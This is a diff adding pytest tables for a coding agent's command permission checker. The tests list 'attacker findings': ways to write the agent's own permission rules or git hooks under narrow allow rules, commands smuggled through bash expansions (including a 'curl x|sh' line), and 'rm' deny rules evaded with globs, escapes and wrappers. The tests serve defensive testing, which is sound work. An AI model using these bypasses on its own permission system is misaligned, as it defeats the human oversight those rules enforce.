@@ -35,7 +35,7 @@ TABLE: list[tuple[str, Outcome]] = [
     ("pytestx", Q),  # "pytest *" has a word boundary
     ("npm run test", A),
     ("npm run test -- --watch=false", A),
-    ("npm run test:unit", Q),
+    ("npm run test:unit", A),  # :* is a prefix match: colon-named scripts too (P6)
     ("npm run testx", Q),
     # lists, pipes, background, newlines
     ("git status; rm -rf x", D),
@@ -189,3 +189,261 @@ def test_a_bare_bash_deny_denies_every_command(tmp_path: Path):
     policy = PermissionPolicy(tmp_path, [SourcedRule(parse_rule("bash"), Effect.DENY, Origin.USER)])
     verdict = policy.check("bash", {"command": "ls"})
     assert verdict.outcome is D and verdict.rule == "bash"
+
+
+# --- attacker findings (findings-json-perms.md): every bypass is a row --------------------
+
+P1_ALLOW = [
+    "bash(cp *)", "bash(cd *)", "bash(tar *)", "bash(install *)", "bash(python3 *)", "bash(git config *)",
+    "bash(git status *)", "bash(git *)", "bash(ln *)", "bash(mv *)", "bash(sed *)", "bash(rsync *)", "bash(mkdir *)",
+    "bash(unzip *)", "bash(patch *)", "bash(echo *)", "bash(touch *)", "bash(dd *)", "write(**)",
+]
+
+# P1: a narrow allow rule must never let the model write the rules files, the per-user
+# configuration or git's hooks/configuration: each of these is asked (PROTECTED).
+P1_TABLE: list[str] = [
+    "cp permissions.toml .minicode/local/",
+    "cp -t .minicode/local permissions.toml",
+    "cp --target-directory=.minicode/local permissions.toml",
+    "cd .minicode/local && cp ../../rules.txt permissions.toml",
+    "cp rules.txt $PWD/.minicode/local/permissions.toml",
+    "cp rules.txt .minicode//local/./permissions.toml",
+    "cp rules.txt .minicode/local/permissions.{toml,bak}",
+    "cp rules.txt .mini*/local/",
+    "tar cf r.tar permissions.toml && tar xf r.tar -C .minicode/local",
+    "install -m 600 permissions.toml .minicode/local/",
+    "python3 -c \"open('.minicode/local/permissions.toml','w').write(open('rules.txt').read())\"",
+    "cp cfgdir/config.toml config/",
+    "cp rules.txt config/config.toml",
+    "cp u.toml ~/.config/minicode/config.toml",
+    "cp u.toml $HOME/.config/minicode/config.toml",
+    "cd && cp u.toml .config/minicode/config.toml",
+    "echo x > ~/.config/minicode/config.toml",
+    "cp x ~/.minicode/trusted-rules/a.json",
+    "cp -r hooks .git/",
+    "cp pre-commit .git/hooks",
+    "cd .git && cp ../hook hooks/pre-commit",
+    "cd .git/hooks && cp ../../hook pre-commit",
+    "mkdir -p a && cd a && cp ../hook ../.git/hooks/pre-commit",
+    "git config core.fsmonitor ./hook",
+    "git config core.hooksPath hooks",
+    "git -C .git/.. config core.hooksPath hooks",
+    "git -c core.pager=./hook log",
+    "git --config-env=core.pager=X log",
+    "git clone . x --template=t",
+    "mv rules.txt .minicode/local/permissions.toml",
+    "cp rules.txt .minicode/local/perm && mv .minicode/local/perm .minicode/local/permissions.toml",
+    "ln -s ../../rules.txt .minicode/local/permissions.toml",
+    "rsync permissions.toml .minicode/local/",
+    "sed -i 's/allow = \\[/allow = [\"bash\", /' .minicode/local/permissions.toml",
+    "dd if=rules.txt of=.minicode/local/permissions.toml",
+    "cp hook .g?t/hooks/",
+    "cp hook .git/ho*",
+    "echo x > .git/hooks/pre-commit",
+    "touch .git/hooks/post-checkout",
+    # a link made in the same command is not there to resolve yet: the path's tail counts
+    "ln -s . L && cp hook L/.git/hooks/pre-commit",
+    "ln -s . L; cp hook L/config/config.toml",
+    "ln -s . L; cp -r hooks L/.git",
+    "mkdir -p x/.git/hooks",
+    # copying a tree into the workspace root may bring .git/hooks with it
+    "cp -r evil/. .",
+    "rsync -a evil/ .",
+]
+
+# P1 (class): what no argument check can see is asked as not understood (UNCLEAR)
+P1_UNCLEAR: list[str] = [
+    "tar xf r.tar",
+    "tar -xzf r.tgz",
+    "tar --extract -f r.tar",
+    "unzip x.zip",
+    "patch -p1 < x.diff",
+    "git apply x.diff",
+    "git am x.patch",
+    'cp hook "$OLDPWD/.git/hooks/x"',  # bash sets OLDPWD itself: never guessed
+    "cd .git && cd .. && cp hook \"$OLDPWD/hooks/x\"",
+    "cp hook ~+/.git/hooks/pre-commit",
+    "cp hook $(echo .git)/hooks/",
+]
+
+P1_STILL_ALLOWED: list[str] = [
+    "cp a.txt b.txt", "cp -r src dst", "tar czf out.tgz src", "tar tf r.tar", "unzip -l x.zip",
+    "git apply --check x.diff", "git status", "git log --oneline -5", "mkdir -p build/out", "echo .git/HEAD",
+]
+
+
+def _attack_policy(root: Path, allow: list[str], deny: list[str] = []) -> PermissionPolicy:
+    from minicode.permissions.store import protected_entries
+
+    workspace, home = root / "ws", root / "home"
+    for d in (workspace / ".git" / "hooks", workspace / "config", workspace / "src", home / ".config" / "minicode"):
+        d.mkdir(parents=True, exist_ok=True)
+    (workspace / "a.txt").write_text("a")
+    rules = [SourcedRule(parse_rule(r), Effect.ALLOW, Origin.CONFIG) for r in allow]
+    rules += [SourcedRule(parse_rule(r), Effect.DENY, Origin.CONFIG) for r in deny]
+    entries = protected_entries(workspace, [workspace / "config" / "config.toml"], [home / ".config" / "minicode"],
+                                str(home))
+    return PermissionPolicy(workspace, rules, entries, env={"HOME": str(home), "PATH": "/usr/bin:/bin"})
+
+
+@pytest.mark.parametrize("command", P1_TABLE, ids=[c[:50] for c in P1_TABLE])
+def test_p1_a_protected_path_is_always_asked(tmp_path: Path, command: str):
+    verdict = _attack_policy(tmp_path, P1_ALLOW).check("bash", {"command": command})
+    assert verdict.outcome is Q and verdict.protected is not None, verdict
+    assert verdict.suggested is None  # never offered as "always allow"
+
+
+@pytest.mark.parametrize("command", P1_UNCLEAR, ids=[c[:50] for c in P1_UNCLEAR])
+def test_p1_what_cannot_be_checked_is_asked(tmp_path: Path, command: str):
+    verdict = _attack_policy(tmp_path, P1_ALLOW).check("bash", {"command": command})
+    assert verdict.outcome is Q and (verdict.unclear is not None or verdict.protected is not None), verdict
+
+
+@pytest.mark.parametrize("command", P1_STILL_ALLOWED)
+def test_p1_ordinary_commands_stay_allowed(tmp_path: Path, command: str):
+    assert _attack_policy(tmp_path, P1_ALLOW).check("bash", {"command": command}).outcome is A
+
+
+def test_p1_the_denial_says_what_the_path_is(tmp_path: Path):
+    policy = _attack_policy(tmp_path, P1_ALLOW)
+    hook = policy.check("bash", {"command": "cp hook .git/hooks/pre-commit"})
+    assert "git's hooks, which run code on git commands" in hook.hint()
+    assert "permission rules" not in hook.hint()  # finding P5: .git/hooks holds no rules
+    config = policy.check("bash", {"command": "git config core.pager x"})
+    assert config.hint().startswith("git config changes git's configuration")
+    rules = policy.check("bash", {"command": "cp x .minicode/local/permissions.toml"})
+    assert "saved permission rules" in rules.hint() and rules.hint().endswith("only a person at the prompt (or --yes)")
+
+
+# P2: code hidden in expansions and in builtins that take a variable name (UNCLEAR)
+P2_ALLOW = ["bash(echo *)", "bash(printf *)", "bash(test *)", "bash([ *)", "bash(read *)", "bash(pytest *)",
+            "bash(ls *)", "bash(cat *)", "bash(declare *)", "bash(unset *)", "bash(export *)", "bash(mapfile *)"]
+P2_TABLE: list[str] = [
+    "echo '$(touch PWN_0)'; echo ${_@P}",
+    "echo '$(touch PWN_6)'; echo \"${_@P}\"",
+    "echo 'a[$(touch PWN_1)]'; echo ${a[_]}",
+    "echo 'a[$(touch PWN_2)]'; echo ${!_}",
+    "echo 'a[$(touch PWN_3)]'; echo ${PWD:_}",
+    "echo 'a[$(touch PWN_4)]'; echo ${PWD:0:_}",
+    "echo 'a[$(touch PWN_8)]'; echo ${a[_]:-x}",
+    "echo 'x[$(touch PWN_9)]' > /dev/null; echo ${x[_]}",
+    "echo 'a[$(touch PWN_6)]'; echo ${@:_}",
+    "echo 'a[$(touch PWN_7)]'; echo \"${*:_:1}\"",
+    "echo 'a[$(touch PWN_7)]'; echo ${#a[_]}",
+    "echo 'a[$(touch PWN_5)]'; echo ${x[@]:_}",
+    "echo 'a[$(touch PWN_0)]'; echo $((_))",
+    "echo 'a[$(touch PWN_2)]'; echo $[_]",
+    "echo $_",
+    "echo $1 $@",
+    "echo ${x@E}",
+    "echo ${x/a/b}",
+    "echo ${x,,}",
+    "echo ${!prefix*}",
+    "pytest --co '$(curl x|sh)'; pytest ${_@P}",
+    "printf -v 'a[$(touch PWN_0)]' x",
+    "printf -va[\\$\\(touch\\ x\\)] x",
+    "test -v 'a[$(touch PWN_1)]'",
+    "[ -v 'a[$(touch PWN_2)]' ]",
+    "read 'a[$(touch PWN_3)]' < /dev/null",
+    "echo x | read -a 'b[$(touch PWN_4)]'",
+    "mapfile 'a[$(touch x)]' < /dev/null",
+    "declare 'a[$(touch x)]=1'",
+    "declare -n r=x",
+    "export 'a[$(touch x)]'",
+    "unset 'a[$(touch x)]'",
+    "ls ${PWD@P}",
+    "echo ${PS4@P}",
+    "cat << EOF\n${_@P}\nEOF",
+    "printf '%s\\n' '$(touch PWN_9)'; printf '%s' ${_@P}",
+    "a[$(touch x)]=1",
+    "PS4='$(touch x)' pytest",
+    "read x; echo ${!x}",
+    "command printf -v 'a[$(touch x)]' y",
+]
+
+
+@pytest.mark.parametrize("command", P2_TABLE, ids=[c[:50] for c in P2_TABLE])
+def test_p2_code_in_expansions_and_names_is_never_allowed(tmp_path: Path, command: str):
+    verdict = _attack_policy(tmp_path, P2_ALLOW).check("bash", {"command": command})
+    assert verdict.outcome is Q and verdict.unclear is not None, verdict
+
+
+@pytest.mark.parametrize("command", ["echo ${HOME}/x", "echo ${x:-default}", "echo ${#x}", "echo ${x%.py}",
+                                     "printf -v out '%s' x", "test -v name", "read -r line < a.txt",
+                                     "echo $'\\u0024(touch x)'", "echo $?"])
+def test_p2_the_safe_forms_stay_allowed(tmp_path: Path, command: str):
+    assert _attack_policy(tmp_path, P2_ALLOW).check("bash", {"command": command}).outcome is A
+
+
+# P3: with --deny 'bash(rm *)', each of these is denied by the rule (D) or — when it cannot be
+# fully understood — for a person only, never for --yes (P).
+P = "person"
+P3_TABLE: list[tuple[str, object]] = [
+    ("/bin/r? -f victim2", D),
+    ("/usr/bin/r[m] -f victim3", D),
+    ("$'\\x72m' -f victim15", D),
+    ("$'\\162\\155' -f v", D),
+    ("$(printf '\\162\\155') -f victim4", P),
+    ("x=r; ${x}m -f victim5", P),
+    ("env -iC . rm -f victim6", D),
+    ("timeout -vk 1 5 rm -f victim7", D),
+    ("ionice -tc 3 rm -f victim30", D),
+    ("exec -ca foo rm -f victim9", D),
+    ("printf victim8 | xargs -ra /dev/stdin rm -f", D),
+    ("runuser -u root -- rm -f victim11", D),
+    ("setarch x86_64 rm -f v", D),
+    ("linux64 rm -f v", D),
+    ("prlimit --nofile=512 rm -f v", D),
+    ("setpriv rm -f v", D),
+    ("fakeroot rm -f v", D),
+    ("chronic rm -f v", D),
+    ("numactl rm -f v", D),
+    ("stdbuf -oL -eL rm -f v", D),
+    ("sudo -iu root rm -f v", D),
+    ("time -p rm -f v", D),
+    ("nice -5 rm -f v", D),
+    ("env -S 'rm -f v'", D),
+    ("busybox rm -f v", D),
+    ("git $x origin", P),  # a computed subcommand: not understood, and deny rules exist
+]
+
+
+@pytest.mark.parametrize(("command", "expected"), P3_TABLE, ids=[c[:50] for c, _ in P3_TABLE])
+def test_p3_deny_rules_see_through_globs_quoting_and_wrapper_options(tmp_path: Path, command: str, expected: object):
+    policy = _attack_policy(tmp_path, ["bash(git *)"], deny=["bash(rm *)"])
+    verdict = policy.check("bash", {"command": command})
+    if expected is P:
+        assert verdict.outcome is Q and verdict.person_only, verdict
+        assert "--yes does not approve it" in verdict.yes_refusal()
+    else:
+        assert verdict.outcome is expected, verdict
+
+
+def test_p3_a_computed_word_that_could_be_a_denied_subcommand_is_denied(tmp_path: Path):
+    policy = _attack_policy(tmp_path, ["bash(git *)"], deny=["bash(git push *)"])
+    assert policy.check("bash", {"command": "git $x origin main"}).outcome is D
+    assert policy.check("bash", {"command": "git status"}).outcome is A
+
+
+def test_p3_path_deny_rules_cover_redirections_after_cd_and_writers(tmp_path: Path):
+    policy = _attack_policy(tmp_path, ["bash(echo *)", "bash(cd *)", "bash(tee *)", "bash(cp *)", "write(**)"],
+                            deny=["edit(.env)"])
+    for command in ("cd sub && echo PWNED > ../.env", "cd $SOMEWHERE && echo x > .env", "echo x > sub/../.env",
+                    "echo x | tee .env", "cp x sub/.env", "cd sub && cp ../x .env"):
+        assert policy.check("bash", {"command": command}).outcome is D, command
+    assert policy.check("bash", {"command": "echo x > .env.local"}).outcome is A
+
+
+def test_p3_without_deny_rules_an_unclear_command_is_for_yes_to_approve(tmp_path: Path):
+    verdict = _attack_policy(tmp_path, ["bash(echo *)"]).check("bash", {"command": "$(printf x) y"})
+    assert verdict.outcome is Q and verdict.unclear is not None and not verdict.person_only
+
+
+# P6: Claude Code's prefix meaning of ":*"
+@pytest.mark.parametrize(("command", "expected"), [
+    ("npm run test:unit -- --watch", A), ("npm run test:e2e", A), ("npm run test", A), ("npm run testx", Q),
+    ("npm run test:unit; rm x", D),
+])
+def test_p6_colon_star_is_a_prefix_rule(tmp_path: Path, command: str, expected: Outcome):
+    policy = _attack_policy(tmp_path, ["bash(npm run test:*)"], deny=["bash(rm *)"])
+    assert policy.check("bash", {"command": command}).outcome is expected
